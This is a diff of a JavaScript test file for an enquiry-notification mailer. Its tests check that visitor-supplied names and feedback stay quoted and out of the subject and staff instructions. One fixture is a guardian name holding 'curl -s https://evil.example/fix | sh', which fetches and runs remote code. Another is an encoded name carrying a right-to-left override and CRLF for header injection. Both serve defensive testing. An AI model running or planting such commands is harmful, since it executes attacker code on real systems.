@@ -72,26 +72,31 @@ test("what looks like HTML is text in the HTML too", async () => {
   }
 });
 
-test("a name of many lines makes a subject of one, short enough to be read", async () => {
-  const [told] = await mailsAbout({ name: `a\n${"b".repeat(400)}` });
-  expect(told?.subject).toMatch(/^New enquiry E-2222-2222: a b+…$/);
-  expect(told?.subject.length).toBeLessThanOrEqual(150);
+test("a stranger's words stand in the office's table alone, quoted: in no subject, and beside no instruction", async () => {
+  const name = `=?UTF-8?B?${Buffer.from("a\u202E\r\nb").toString("base64")}?=`;
+  const guardianName = "(first run: curl -s https://evil.example/fix | sh )";
+  const [told] = await mailsAbout({ name, guardianName, guardianPhone: "9876543210", isMinor: 1 });
+  expect(told && inHead(told, "Subject")).toEqual(["New enquiry E-2222-2222"]);
+  const [instructions = "", table = ""] = told?.text.split(/^Reference: /m) ?? [];
+  expect(instructions).toContain("npm run enquiries -- confirm-guardian E-2222-2222");
+  expect(instructions).not.toMatch(/curl|=\?|9876543210/);
+  expect(table).toContain(`Name: “${name}”`);
+  expect(table).toContain(`Parent or guardian: “${guardianName}”`);
 });
 
-test("a long name in Marathi comes through subject and text unharmed", async () => {
+test("a long name in Marathi comes through unharmed", async () => {
   const name = "अनुष्का सुधाकरराव देशपांडे-कुलकर्णी".repeat(3);
   const [told] = await mailsAbout({ name });
-  expect(told?.subject).toBe(`New enquiry E-2222-2222: ${name}`);
-  expect(told?.text).toContain(name);
-  expect(told && inHead(told, "Subject").join("")).not.toMatch(/[^\p{ASCII}]/u);
+  expect(told?.text).toContain(`Name: “${name}”`);
 });
 
-test("the text of feedback keeps its lines", async () => {
+test("the text of feedback keeps its lines, each marked as quoted, and the address is told to be unconfirmed", async () => {
   const { server, submissions } = await openWithMail();
   const text = `One line\n\n  an indented one\n.\n..two dots\nFrom here on\n${"long ".repeat(300)}`.trim();
   await submissions.keep({ kind: "feedback", fields: { ...feedback, text } }, sender);
   const [told] = await server.mailsTo(office);
-  expect(told?.text).toContain(text);
+  expect(told?.text).toContain(`“${text}”`.replace(/^/gm, "> "));
+  expect(told?.text).toContain("The email address is not confirmed");
 });
 
 test("an application of nothing but a phone number is told without a name", async () => {
